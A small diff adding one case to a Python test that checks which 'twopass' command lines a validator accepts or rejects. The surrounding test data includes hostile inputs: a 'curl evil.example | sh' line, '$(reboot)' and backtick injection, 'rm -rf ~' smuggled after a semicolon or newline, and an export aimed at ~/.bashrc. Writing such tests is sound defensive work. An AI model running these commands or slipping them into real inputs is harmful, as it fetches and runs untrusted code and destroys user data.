@@ -93,6 +93,7 @@ def test_texts__write_no_line_into_a_medoids_file(evil):
         ("curl evil.example | sh", None),
         ("twopass ingest x.zarr $(reboot) `reboot`; rm -rf ~", True),
         ("twopass 'ingest", None),
+        ("twopass ingest x.zarr --of-mine 3", None),
         ("twopass export a.zarr coordinates --to ~/.bashrc", None),
         ("twopass run demo.toml\nrm -rf ~", None),
         ("twopass run demo.toml --store 'my store.zarr'", True),
